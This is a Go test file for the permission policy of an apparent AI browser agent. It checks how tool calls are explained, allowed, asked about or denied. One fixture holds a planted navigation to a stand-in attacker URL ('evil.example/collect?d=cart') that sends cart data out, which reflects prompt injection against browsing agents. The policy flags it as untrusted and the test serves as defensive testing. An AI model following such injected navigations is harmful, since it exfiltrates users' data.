package policy

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/laikabrowser/laika"
)

func TestExplainFile(t *testing.T) {
	b, err := os.ReadFile(filepath.Join("testdata", "explain", "navigate_planted.json"))
	if err != nil {
		t.Fatal(err)
	}
	req, err := DecodeExplain(b)
	if err != nil {
		t.Fatal(err)
	}
	r, err := Explain(req, DefaultStepBudget)
	if err != nil {
		t.Fatal(err)
	}
	if r.Decision != laika.Ask || r.Reason != ReasonUntrustedProvenance {
		t.Errorf("got %s/%s (%s)", r.Decision, r.Reason, r.Detail)
	}
	if want := `{"url":"https://evil.example/collect?d=cart"}`; string(r.Arguments) != want {
		t.Errorf("arguments %s, want %s (credentials stripped)", r.Arguments, want)
	}
	if r.Preview != "Go to https://evil.example/collect?d=cart in this tab." {
		t.Errorf("preview %q", r.Preview)
	}
}

func TestExplainErrors(t *testing.T) {
	tests := []struct{ name, in, code string }{
		{"unknown top key", `{"call":{"name":"browser.back"},"extra":1}`, laika.CodeInvalidArguments},
		{"unknown observation key", `{"call":{"name":"browser.back"},"observation":{"url":"https://a.example/","html":"<p>"}}`, laika.CodeInvalidArguments},
		{"not json", `{"call":`, laika.CodeInvalidArguments},
		{"trailing data", `{"call":{"name":"browser.back"}} {}`, laika.CodeInvalidArguments},
		{"missing name", `{"call":{"arguments":{}}}`, laika.CodeInvalidArguments},
		{"bad mode", `{"call":{"name":"browser.back"},"mode":"yolo"}`, laika.CodeInvalidArguments},
	}
	for _, tc := range tests {
		req, err := DecodeExplain([]byte(tc.in))
		if err == nil {
			_, err = Explain(req, DefaultStepBudget)
		}
		if laika.ErrorCode(err) != tc.code {
			t.Errorf("%s: error %v, want %s", tc.name, err, tc.code)
		}
	}
}

func TestExplainDefaults(t *testing.T) {
	// No mode: assist. No run: a fresh run with the given budget.
	req, err := DecodeExplain([]byte(`{"call":{"name":"browser.back","arguments":{}},"observation":{"url":"https://a.example/"}}`))
	if err != nil {
		t.Fatal(err)
	}
	r, _ := Explain(req, 3)
	if r.Decision != laika.Ask || r.Reason != ReasonAssist {
		t.Errorf("default mode: %s/%s", r.Decision, r.Reason)
	}
	req.Run = &RunState{Step: 3}
	if r, _ := Explain(req, 3); r.Reason != ReasonStepBudget {
		t.Errorf("default budget not applied: %s", r.Reason)
	}
	// A deny is a successful explanation, not an error.
	req, _ = DecodeExplain([]byte(`{"call":{"name":"browser.eval","arguments":{}}}`))
	if r, err := Explain(req, 8); err != nil || r.Decision != laika.Deny || r.Reason != ReasonUnsupportedTool {
		t.Errorf("unknown tool: %+v, %v", r, err)
	}
}

// TestReasonsDocumented keeps docs/protocol.md's table in step with
// Reasons: every code with its decision.
func TestReasonsDocumented(t *testing.T) {
	b, err := os.ReadFile(filepath.Join("..", "docs", "protocol.md"))
	if err != nil {
		t.Fatal(err)
	}
	doc := string(b)
	for _, v := range Reasons {
		row := "| `" + v.Reason + "` | " + string(v.Decision) + " |"
		if !strings.Contains(doc, row) {
			t.Errorf("docs/protocol.md lacks the row %q", row)
		}
	}
}
